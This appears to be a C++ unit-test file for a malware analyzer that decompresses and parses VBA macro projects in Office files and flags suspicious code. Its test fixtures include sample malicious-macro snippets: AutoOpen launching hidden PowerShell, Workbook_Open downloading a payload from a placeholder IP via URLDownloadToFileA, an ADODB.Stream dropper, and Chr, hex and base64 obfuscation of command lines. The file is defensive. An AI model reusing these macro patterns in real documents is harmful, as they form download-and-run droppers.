// VBA projects (MS-OVBA): decompression, the dir stream, module streams, and what
// report() says about the code. Fixtures come from support/ovba_builder: inert text.
#include "analyzers/ole2/vba.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <map>

#include "analyzers/ole2/cfb.h"
#include "support/ovba_builder.h"
#include "support/test_support.h"

namespace kagami::analyzers::vba {
namespace {

using test::ovba_compress;
using test::OvbaModule;
using test::OvbaProject;
using Streams = std::map<std::string, std::string>;

// Deterministic text with repeats, like source code: compresses with copy tokens.
std::string sample_text(std::size_t n, std::uint32_t seed = 1) {
    static const char* words[] = {"Dim ", "x",       " As ", "String", "\r\n",    "If ",
                                  "Then", "End Sub", " = ",  "\"",     "MsgBox ", "For i = 1 To 10",
                                  "Next", "a",       "b",    "c",      "(",       ")",
                                  ", ",   "'"};
    std::string s;
    std::uint32_t state = seed;
    while (s.size() < n) {
        state = state * 1103515245u + 12345u;
        s += words[(state >> 16) % 20];
    }
    s.resize(n);
    return s;
}

std::string random_bytes(std::size_t n, std::uint32_t seed) {
    std::string s;
    std::uint32_t state = seed;
    for (std::size_t i = 0; i < n; ++i) {
        state = state * 1664525u + 1013904223u;
        s.push_back(static_cast<char>(state >> 24));
    }
    return s;
}

std::function<std::optional<std::string>(std::string_view)> reader(const Streams& streams) {
    return [&streams](std::string_view name) -> std::optional<std::string> {
        auto it = streams.find(std::string(name));
        if (it == streams.end()) return std::nullopt;
        return it->second;
    };
}

OvbaProject macro_project(std::string code, std::string name = "Module1") {
    OvbaProject p;
    OvbaModule doc;
    doc.name = "ThisDocument";
    doc.document = true;
    doc.code =
        "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal.ThisDocument\"\r\n"
        "Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n";
    p.modules.push_back(doc);
    OvbaModule m;
    m.name = std::move(name);
    m.code = "Attribute VB_Name = \"" + m.name + "\"\r\n" + std::move(code);
    p.modules.push_back(m);
    return p;
}

struct Reported {
    Limits limits;
    Context ctx{limits, {}};
    Output out{"ole2", "x.doc", ctx};

    std::vector<std::string> facts(std::string_view name) {
        std::vector<std::string> v;
        for (const auto& f : out.facts())
            if (f.name == name) v.push_back(f.value);
        return v;
    }
    bool has_fact(std::string_view name, std::string_view needle) {
        auto v = facts(name);
        return std::any_of(v.begin(), v.end(), [&](const std::string& s) {
            return s.find(needle) != std::string::npos;
        });
    }
    const Finding* finding(std::string_view id) {
        for (const auto& f : out.findings())
            if (f.id == id) return &f;
        return nullptr;
    }
    std::vector<std::string> finding_ids() {
        std::vector<std::string> ids;
        for (const auto& f : out.findings()) ids.push_back(f.id);
        return ids;
    }
};

Project read(const Streams& s, std::size_t max_bytes = 1 << 20) {
    return read_project(reader(s), max_bytes);
}

// ---- decompression ---------------------------------------------------------------------------

TEST(VbaDecompress, DecodesTheSpecificationExample) {
    // MS-OVBA 3.2.3: the compressed form of a string with repeats, with copy tokens.
    const unsigned char compressed[] = {
        0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82,
        0x66, 0x00, 0x70, 0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B,
        0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10,
        0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C};
    auto out = decompress(
        std::string_view(reinterpret_cast<const char*>(compressed), sizeof compressed), 1 << 20);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
}

TEST(VbaDecompress, RoundTripsManySizesAcrossChunks) {
    for (std::size_t n : {0u, 1u, 2u, 3u, 17u, 100u, 1000u, 4095u, 4096u, 4097u, 5000u, 8192u,
                          8193u, 12289u, 20000u}) {
        std::string text = sample_text(n, static_cast<std::uint32_t>(n));
        std::string c = ovba_compress(text);
        if (n >= 1000) {
            EXPECT_LT(c.size(), text.size() / 2) << n;  // copy tokens were used
        }
        auto out = decompress(c, 1 << 20);
        ASSERT_TRUE(out) << n;
        EXPECT_EQ(*out, text) << n;
    }
}

TEST(VbaDecompress, RoundTripsLongRunsAndLateCopyTokens) {
    // One long run (overlapping copies) and repeats far into the chunk (wide offsets).
    std::string text(3000, 'A');
    text += random_bytes(1000, 7) + text.substr(0, 50) + random_bytes(60, 9);
    text += text.substr(3100, 900);
    auto out = decompress(ovba_compress(text), 1 << 20);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, text);
}

TEST(VbaDecompress, ReadsRawChunks) {
    std::string text = random_bytes(4096, 3) + sample_text(500);
    std::string c = ovba_compress(text);
    ASSERT_GE(c.size(), 3u);
    EXPECT_EQ(static_cast<unsigned char>(c[1]), 0xFF);  // raw chunk header 0x3FFF
    EXPECT_EQ(static_cast<unsigned char>(c[2]), 0x3F);
    auto out = decompress(c, 1 << 20);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, text);
}

TEST(VbaDecompress, RejectsAMissingSignatureByte) {
    EXPECT_FALSE(decompress("", 100));
    EXPECT_FALSE(decompress(std::string("\x02\x00\xB0", 3), 100));
    auto empty = decompress(std::string("\x01", 1), 100);
    ASSERT_TRUE(empty);
    EXPECT_TRUE(empty->empty());
}

TEST(VbaDecompress, StopsAtMaxOut) {
    std::string text = sample_text(30000);
    auto out = decompress(ovba_compress(text), 1000);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, text.substr(0, 1000));
}

TEST(VbaDecompress, KeepsEarlierChunksWhenAChunkSignatureIsBad) {
    std::string text = sample_text(9000);
    std::string c = ovba_compress(text);
    // Second chunk header: after the signature byte and the first chunk.
    std::size_t first =
        (static_cast<unsigned char>(c[1]) | (static_cast<unsigned char>(c[2]) << 8));
    std::size_t second_at = 1 + (first & 0x0FFF) + 3;
    ASSERT_LT(second_at + 1, c.size());
    c[second_at + 1] = static_cast<char>(c[second_at + 1] & 0x8F);  // signature 0b000
    auto out = decompress(c, 1 << 20);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, text.substr(0, 4096));
}

TEST(VbaDecompress, StopsAtACopyTokenReachingBeforeTheChunk) {
    // Flag byte 0b100: two literals, then a copy token with offset 5 at position 2.
    std::string c(
        "\x01\x05\xB0\x04"
        "ab"
        "\x00\x40",
        8);  // token 0x4000: offset 5
    auto out = decompress(c, 100);
    ASSERT_TRUE(out);
    EXPECT_EQ(*out, "ab");
    // A copy token as the very first token has nothing to copy.
    std::string first("\x01\x02\xB0\x01\x00\x00", 6);
    auto none = decompress(first, 100);
    ASSERT_TRUE(none);
    EXPECT_TRUE(none->empty());
}

TEST(VbaDecompress, DecodesWhatATruncatedChunkHolds) {
    std::string text = sample_text(3000);
    std::string c = ovba_compress(text);
    for (std::size_t cut : {c.size() - 1, c.size() / 2, std::size_t{5}, std::size_t{2}}) {
        auto out = decompress(c.substr(0, cut), 1 << 20);
        ASSERT_TRUE(out) << cut;
        EXPECT_LT(out->size(), text.size()) << cut;
        EXPECT_EQ(*out, text.substr(0, out->size())) << cut;
    }
}

// ---- read_project ----------------------------------------------------------------------------

TEST(VbaReadProject, ReadsModulesFromTheDirStream) {
    OvbaProject p = macro_project("Sub Hello()\r\n    MsgBox \"hi\"\r\nEnd Sub\r\n");
    p.modules[1].cache = std::string(300, '\xCC') + "Shell in the cache is not source";
    auto project = read(test::ovba_streams(p));
    EXPECT_TRUE(project.errors.empty()) << project.errors.front();
    EXPECT_EQ(project.code_page, 1252u);
    EXPECT_EQ(project.name, "VBAProject");
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_EQ(project.modules[0].name, "ThisDocument");
    EXPECT_TRUE(project.modules[0].document);
    EXPECT_EQ(project.modules[1].name, "Module1");
    EXPECT_EQ(project.modules[1].stream, "Module1");
    EXPECT_FALSE(project.modules[1].document);
    EXPECT_EQ(project.modules[1].code, p.modules[1].code);
    // Registered, original, twiddled, extended and project references.
    ASSERT_EQ(project.references.size(), 6u);
    EXPECT_NE(project.references[0].find("stdole2.tlb"), std::string::npos);
    EXPECT_NE(project.references[3].find("MSForms.exd"), std::string::npos);
    EXPECT_EQ(project.references[4], "*\\CC:\\Users\\analyst\\Shared.dotm");
}

TEST(VbaReadProject, ReadsProjectsWithoutOptionalRecords) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    p.compat_version = false;
    p.references = false;
    p.modules[1].unicode_names = false;
    p.modules[1].stream = "Mod_Stream";
    auto project = read(test::ovba_streams(p));
    EXPECT_TRUE(project.errors.empty());
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_EQ(project.modules[1].stream, "Mod_Stream");
    EXPECT_EQ(project.modules[1].code, p.modules[1].code);
}

TEST(VbaReadProject, ConvertsTheProjectCodePage) {
    OvbaProject p = macro_project("' \x80 caf\xE9\r\nSub A()\r\nEnd Sub\r\n");
    auto project = read(test::ovba_streams(p));
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_NE(project.modules[1].code.find("\xE2\x82\xAC caf\xC3\xA9"), std::string::npos);

    // Shift_JIS: "\x82\xA0" is HIRAGANA LETTER A (U+3042); the module name in Unicode.
    OvbaProject jp = macro_project("' \x82\xA0\r\nSub A()\r\nEnd Sub\r\n");
    jp.code_page = 932;
    auto jproject = read(test::ovba_streams(jp));
    ASSERT_EQ(jproject.modules.size(), 2u);
    EXPECT_NE(jproject.modules[1].code.find("' \xE3\x81\x82"), std::string::npos)
        << jproject.modules[1].code;
    EXPECT_EQ(to_utf8("\x82\xA0\xFF", 932).substr(0, 3), "\xE3\x81\x82");
    EXPECT_EQ(to_utf8("a\xFF", 12345), "a\\xFF");  // no such code page: escaped
}

TEST(VbaReadProject, KeepsModulesBeforeATruncatedDir) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    OvbaModule second;
    second.name = "Module2";
    second.code = "Sub B()\r\nEnd Sub\r\n";
    p.modules.push_back(second);
    std::string dir = test::ovba_dir_records(p);
    auto streams = test::ovba_streams(p);
    // Cut inside the last module's records (its MODULEOFFSET is 10+ bytes from the end).
    for (std::size_t cut : {dir.size() - 8, dir.size() - 40, dir.size() / 2, std::size_t{3}}) {
        streams["dir"] = ovba_compress(dir.substr(0, cut));
        auto project = read(streams);
        EXPECT_FALSE(project.errors.empty()) << cut;
        if (cut == dir.size() - 8) {
            ASSERT_GE(project.modules.size(), 2u);
            EXPECT_EQ(project.modules[1].code, p.modules[1].code);
        }
    }
}

TEST(VbaReadProject, RecordsWrongRecordSizes) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    std::string dir = test::ovba_dir_records(p);
    auto streams = test::ovba_streams(p);
    // PROJECTCODEPAGE (id 3) claims 3 bytes: recorded, parsing goes on with the size.
    std::size_t at = dir.find(std::string("\x03\x00\x02\x00\x00\x00", 6));
    ASSERT_NE(at, std::string::npos);
    std::string bad = dir;
    bad[at + 2] = 3;
    bad.insert(at + 8, 1, '\0');
    streams["dir"] = ovba_compress(bad);
    auto project = read(streams);
    ASSERT_FALSE(project.errors.empty());
    EXPECT_NE(project.errors.front().find("PROJECTCODEPAGE"), std::string::npos);
    EXPECT_EQ(project.modules.size(), 2u);

    // A record larger than the stream: an error, no crash, nothing past it.
    std::string huge = dir;
    huge[at + 2] = '\xFF';
    huge[at + 5] = '\x7F';
    streams["dir"] = ovba_compress(huge);
    project = read(streams);
    ASSERT_FALSE(project.errors.empty());
    EXPECT_NE(project.errors.front().find("claims"), std::string::npos);
    EXPECT_TRUE(project.modules.empty());
}

TEST(VbaReadProject, ContinuesAfterAnUnknownRecord) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    std::string dir = test::ovba_dir_records(p);
    auto streams = test::ovba_streams(p);
    std::size_t at = dir.find(std::string("\x0F\x00\x02\x00\x00\x00", 6));  // PROJECTMODULES
    ASSERT_NE(at, std::string::npos);
    dir.insert(at, std::string("\x77\x77\x03\x00\x00\x00xyz", 9));
    streams["dir"] = ovba_compress(dir);
    auto project = read(streams);
    ASSERT_EQ(project.errors.size(), 1u);
    EXPECT_NE(project.errors[0].find("0x7777"), std::string::npos);
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_EQ(project.modules[1].code, p.modules[1].code);
}

TEST(VbaReadProject, RecordsAModuleOffsetPastTheEnd) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    p.modules[1].offset = 100000;
    auto project = read(test::ovba_streams(p));
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_TRUE(project.modules[1].code.empty());
    ASSERT_EQ(project.errors.size(), 1u);
    EXPECT_NE(project.errors[0].find("past the end"), std::string::npos);

    // An offset inside the stream that is no compressed container.
    p.modules[1].offset = 3;
    project = read(test::ovba_streams(p));
    ASSERT_EQ(project.errors.size(), 1u);
    EXPECT_NE(project.errors[0].find("no compressed source"), std::string::npos);
}

TEST(VbaReadProject, RecordsMissingStreams) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    auto streams = test::ovba_streams(p);
    streams.erase("Module1");
    auto project = read(streams);
    ASSERT_EQ(project.errors.size(), 1u);
    EXPECT_NE(project.errors[0].find("missing"), std::string::npos);
    EXPECT_EQ(project.modules.size(), 2u);

    streams.erase("dir");
    project = read(streams);
    EXPECT_TRUE(project.modules.empty());
    ASSERT_EQ(project.errors.size(), 1u);
}

TEST(VbaReadProject, BoundsTheDecompressedBytes) {
    OvbaProject p = macro_project("Sub A()\r\n" + sample_text(50000) + "\r\nEnd Sub\r\n");
    auto project = read(test::ovba_streams(p), 5000);
    EXPECT_TRUE(project.truncated);
    ASSERT_EQ(project.modules.size(), 2u);
    EXPECT_LE(project.modules[0].code.size() + project.modules[1].code.size(), 5000u);

    Reported r;
    report(project, r.out);
    EXPECT_NE(r.finding("limit.ole2.vba_bytes"), nullptr);
}

TEST(VbaReadProject, SurvivesMutatedStreams) {
    OvbaProject p = macro_project("Sub AutoOpen()\r\n  Shell \"cmd\"\r\nEnd Sub\r\n");
    auto good = test::ovba_streams(p);
    std::string dir = test::ovba_dir_records(p);
    std::uint32_t state = 42;
    for (int round = 0; round < 600; ++round) {
        auto streams = good;
        state = state * 1103515245u + 12345u;
        // Half the rounds damage the uncompressed records, half the compressed bytes.
        if (round % 2 == 0) {
            std::string d = dir;
            for (int k = 0; k < 3; ++k) {
                state = state * 1103515245u + 12345u;
                d[(state >> 8) % d.size()] = static_cast<char>(state >> 24);
            }
            streams["dir"] = ovba_compress(d);
        } else {
            auto& target = (round % 4 == 1) ? streams["dir"] : streams["Module1"];
            target[(state >> 8) % target.size()] = static_cast<char>(state >> 24);
            if (round % 8 == 3) target.resize((state >> 4) % target.size());
        }
        auto project = read(streams, 1 << 16);
        Reported r;
        report(project, r.out);
    }
}

// ---- report ----------------------------------------------------------------------------------

TEST(VbaReport, EmptyDocumentModulesAreNoMacro) {
    OvbaProject p = macro_project("Option Explicit\r\n");
    auto project = read(test::ovba_streams(p));
    EXPECT_FALSE(has_code(project.modules[0].code));
    EXPECT_FALSE(has_code(project.modules[1].code));
    EXPECT_TRUE(has_code("Attribute VB_Name = \"M\"\r\nSub A()\r\nEnd Sub\r\n"));
    Reported r;
    report(project, r.out);
    EXPECT_TRUE(r.out.findings().empty()) << r.finding_ids().front();
    EXPECT_EQ(r.facts("vba.module").size(), 2u);
    EXPECT_TRUE(r.facts("vba.source").empty());
}

TEST(VbaReport, BenignClickHandlerIsOnlyAMacro) {
    OvbaProject p = macro_project(
        "Sub Action_Click()\r\n    MsgBox \"The action button clicked!\"\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_EQ(r.finding_ids(), std::vector<std::string>{"vba.macro"});
    EXPECT_TRUE(r.has_fact("vba.source", "Module1:\n"));
    EXPECT_TRUE(r.has_fact("vba.source", "MsgBox \"The action button clicked!\"\nEnd Sub"));
    EXPECT_TRUE(r.has_fact("vba.auto_exec", "Action_Click: Runs when the user clicks"));
    EXPECT_TRUE(r.facts("vba.suspicious").empty());
    const Finding* macro = r.finding("vba.macro");
    ASSERT_NE(macro, nullptr);
    EXPECT_EQ(macro->attack, std::vector<std::string>{"T1059.005"});
    EXPECT_EQ(macro->evidence, "modules with code: Module1");
}

TEST(VbaReport, AutoOpenRunningPowerShellIsMalicious) {
    OvbaProject p = macro_project(
        "Sub AutoOpen()\r\n    Shell \"powershell -w hidden\", vbHide\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.has_fact("vba.auto_exec", "AutoOpen: Runs when the Word document is opened"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "Shell: May run an executable"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "PowerShell: May run PowerShell"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "vbHide"));
    ASSERT_NE(r.finding("vba.auto_exec"), nullptr);
    const Finding* bad = r.finding("vba.auto_exec_suspicious");
    ASSERT_NE(bad, nullptr);
    EXPECT_EQ(bad->evidence, "AutoOpen -> Shell, PowerShell");
    EXPECT_EQ(bad->attack, (std::vector<std::string>{"T1059.005", "T1204.002"}));
    ASSERT_NE(r.finding("vba.suspicious"), nullptr);
}

TEST(VbaReport, IgnoresCommentsAndAttributes) {
    OvbaProject p = macro_project(
        "' Shell and URLDownloadToFile are only named here\r\n"
        "Rem AutoOpen too\r\n"
        "Sub Tidy(): Rem Kill\r\n    x = \"ok\" ' CreateObject\r\nEnd Sub\r\n",
        "AutoOpenHelper");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.facts("vba.suspicious").empty()) << r.facts("vba.suspicious").front();
    EXPECT_TRUE(r.facts("vba.auto_exec").empty());
    EXPECT_EQ(r.finding_ids(), std::vector<std::string>{"vba.macro"});
}

TEST(VbaReport, DecodesChrChains) {
    // "http://a.invalid/x.exe" spelled with Chr, ChrW$, &H numbers and arithmetic.
    std::string chain;
    const std::string url = "http://a.invalid/x.exe";
    for (std::size_t i = 0; i < url.size(); ++i) {
        if (i) chain += " & ";
        int c = static_cast<unsigned char>(url[i]);
        if (i % 3 == 0)
            chain += "Chr(" + std::to_string(c - 10) + " + 10)";
        else if (i % 3 == 1)
            chain += "ChrW$(&H" + std::string(1, "0123456789ABCDEF"[c >> 4]) +
                     std::string(1, "0123456789ABCDEF"[c & 15]) + ")";
        else
            chain += "Chr(" + std::to_string(c) + ")";
    }
    OvbaProject p = macro_project("Sub A()\r\n  u = " + chain + "\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.has_fact("vba.decoded", "chr: Chr(94 + 10) & ChrW$(&H74)"));
    EXPECT_TRUE(r.has_fact("vba.decoded", "-> http://a.invalid/x.exe"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "url: http://a.invalid/x.exe"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "executable: x.exe"));
    ASSERT_NE(r.finding("vba.obfuscated"), nullptr);
    EXPECT_EQ(r.finding("vba.obfuscated")->attack, std::vector<std::string>{"T1027"});
}

TEST(VbaReport, LineBreakChrIsNotObfuscation) {
    OvbaProject p = macro_project(
        "Sub A()\r\n  MsgBox \"Line one\" & Chr(13) & Chr(10) & \"Line two\"\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.facts("vba.decoded").empty());
    EXPECT_EQ(r.finding_ids(), std::vector<std::string>{"vba.macro"});
}

TEST(VbaReport, DecodesHexAndBase64Strings) {
    // hex of "cmd.exe /c calc", base64 of "powershell -nop", UTF-16LE base64 of "calc.exe".
    OvbaProject p = macro_project(
        "Sub A()\r\n"
        "  h = \"636D642E657865202F632063616C63\"\r\n"
        "  b = \"cG93ZXJzaGVsbCAtbm9w\"\r\n"
        "  w = \"YwBhAGwAYwAuAGUAeABlAA==\"\r\n"
        "  m = \"4D5A90000300000004000000FFFF0000\"\r\n"
        "  g = \"{00020906-0000-0000-C000-000000000046}\"\r\n"
        "End Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(
        r.has_fact("vba.decoded", "hex: 636D642E657865202F632063616C63 -> cmd.exe /c calc"));
    EXPECT_TRUE(r.has_fact("vba.decoded", "base64: cG93ZXJzaGVsbCAtbm9w -> powershell -nop"));
    EXPECT_TRUE(r.has_fact("vba.decoded", "-> calc.exe"));
    EXPECT_TRUE(r.has_fact("vba.decoded", "PE executable (MZ header)"));
    EXPECT_EQ(r.facts("vba.decoded").size(), 4u);  // the GUID is not reported
    EXPECT_TRUE(r.has_fact("vba.ioc", "executable: cmd.exe"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "PowerShell"));
    EXPECT_NE(r.finding("vba.obfuscated"), nullptr);
}

TEST(VbaReport, ReportsDownloads) {
    OvbaProject p = macro_project(
        "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As Long) As "
        "Long\r\n"
        "Sub Workbook_Open()\r\n"
        "  URLDownloadToFileA 0, \"https://198.51.100.7/payload.bin\", Environ(\"TEMP\") & "
        "\"\\a.scr\", 0, 0\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.has_fact("vba.suspicious", "Lib: May run code from a DLL"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "Environ"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "url: https://198.51.100.7/payload.bin"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "ip: 198.51.100.7"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "executable: a.scr"));
    const Finding* dl = r.finding("vba.download");
    ASSERT_NE(dl, nullptr);
    EXPECT_EQ(dl->evidence, "https://198.51.100.7/payload.bin");
    EXPECT_EQ(dl->attack, std::vector<std::string>{"T1105"});
    EXPECT_NE(r.finding("vba.auto_exec_suspicious"), nullptr);
}

TEST(VbaReport, ReportsDroppersWithoutAutoExec) {
    OvbaProject p = macro_project(
        "Sub Save()\r\n  Set s = CreateObject(\"ADODB.Stream\")\r\n"
        "  s.SaveToFile \"C:\\Users\\Public\\x.dll\", 2\r\n"
        "  Open \"C:\\x.bin\" For Binary As #1\r\nEnd Sub\r\n");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    EXPECT_TRUE(r.has_fact("vba.suspicious", "ADODB.Stream"));
    EXPECT_TRUE(r.has_fact("vba.suspicious", "Open For Binary/Output"));
    EXPECT_TRUE(r.has_fact("vba.ioc", "executable: x.dll"));
    ASSERT_NE(r.finding("vba.suspicious"), nullptr);
    EXPECT_EQ(r.finding("vba.suspicious")->evidence, "SaveToFile, ADODB.Stream");
    EXPECT_EQ(r.finding("vba.auto_exec"), nullptr);
    EXPECT_EQ(r.finding("vba.auto_exec_suspicious"), nullptr);
}

TEST(VbaReport, ReportsErrorsAsViolations) {
    OvbaProject p = macro_project("Sub A()\r\nEnd Sub\r\n");
    p.modules[1].offset = 99999;
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    ASSERT_NE(r.finding("ole2.malformed"), nullptr);
    EXPECT_NE(r.finding("ole2.malformed")->evidence.find("past the end"), std::string::npos);
    EXPECT_EQ(r.finding("vba.macro"), nullptr);  // no code could be read
}

TEST(VbaReport, EscapesControlCharacters) {
    OvbaProject p = macro_project(
        "Sub A()\r\n  x = \"a\x01\x08"
        "b\"\r\nEnd Sub\r\n",
        "Mod\x02");
    Reported r;
    report(read(test::ovba_streams(p)), r.out);
    for (const auto& f : r.out.facts())
        for (char c : f.value)
            EXPECT_TRUE(static_cast<unsigned char>(c) >= 0x20 || c == '\n' || c == '\t') << f.name;
    EXPECT_TRUE(r.has_fact("vba.module", "Mod\\x02"));
}

TEST(VbaReport, BoundsTheSearchedSource) {
    Project project;
    Module m;
    m.name = "Big";
    m.stream = "Big";
    m.code = "Sub A()\r\n";
    while (m.code.size() < (5u << 20)) m.code += "    x = x + 1\r\n";
    m.code += "    Shell \"calc\"\r\nEnd Sub\r\n";
    project.modules.push_back(m);
    Reported r;
    report(project, r.out);
    EXPECT_NE(r.finding("limit.ole2.vba_analysis"), nullptr);
    EXPECT_NE(r.finding("vba.macro"), nullptr);
    EXPECT_TRUE(r.facts("vba.suspicious").empty());  // Shell lies past the searched part
}

TEST(VbaReport, SurvivesHostileSource) {
    Project project;
    const std::string shapes[] = {
        std::string(100000, '('),
        "x = Chr(" + std::string(50000, '(') + "1" + std::string(50000, ')') + ")",
        [] {
            std::string s = "x = ";
            for (int i = 0; i < 20000; ++i) s += "Chr(65) & ";
            return s + "\"\"";
        }(),
        "\"" + std::string(70000, 'A') + "\"",
        "\"" + std::string(70000, '7') + "\"",
        std::string(50000, '.') + "exe",
        "Sub A()\r\n x = \"" + random_bytes(100000, 5),
        random_bytes(200000, 11),
        "_\r\n_\r\n_" + std::string(1000, '_'),
        "Rem",
        "\"http://" + std::string(30000, '1') + ".2.3.4",
    };
    for (const auto& code : shapes) {
        Module m;
        m.name = "M";
        m.code = "Sub A()\r\n" + code;
        project.modules.push_back(m);
    }
    Reported r;
    report(project, r.out);
    EXPECT_NE(r.finding("vba.macro"), nullptr);
    EXPECT_LE(r.facts("vba.decoded").size(), 200u);
}

// ---- real data -------------------------------------------------------------------------------

TEST(VbaCorpus, ReadsTheAutoOpenMacroOfAnExcelWorkbook) {
    // oletools' autostart sample: the workbook stream is encrypted, the VBA storage is not.
    auto path = test::corpora_dir() /
                "oletools_test_data/test-data/encrypted/"
                "autostart-encrypt-standardpassword.xls";
    std::string bytes = test::read_file(path);
    if (bytes.empty()) GTEST_SKIP() << "corpus absent: " << path;
    cfb::CompoundFile file(bytes);
    ASSERT_TRUE(file.ok());
    auto project = read_project(
        [&](std::string_view name) {
            return file.read("_VBA_PROJECT_CUR/VBA/" + std::string(name), 1 << 20);
        },
        1 << 20);
    EXPECT_TRUE(project.errors.empty()) << project.errors.front();
    EXPECT_EQ(project.code_page, 1252u);
    ASSERT_EQ(project.modules.size(), 3u);
    EXPECT_EQ(project.modules[0].name, "Modul1");
    EXPECT_FALSE(project.modules[0].document);
    EXPECT_EQ(project.modules[0].code,
              "Attribute VB_Name = \"Modul1\"\r\nSub Auto_Open()\r\n MsgBox \"Hello World\"\r\nEnd "
              "Sub\r\n");
    EXPECT_EQ(project.modules[1].name, "DieseArbeitsmappe");
    EXPECT_TRUE(project.modules[1].document);
    EXPECT_FALSE(has_code(project.modules[1].code));

    Reported r;
    report(project, r.out);
    EXPECT_EQ(r.finding_ids(), (std::vector<std::string>{"vba.macro", "vba.auto_exec"}));
    EXPECT_TRUE(r.has_fact("vba.auto_exec", "Auto_Open: Runs when the Excel workbook is opened"));
    EXPECT_TRUE(r.has_fact("vba.reference", "stdole2.tlb"));
}

}  // namespace
}  // namespace kagami::analyzers::vba
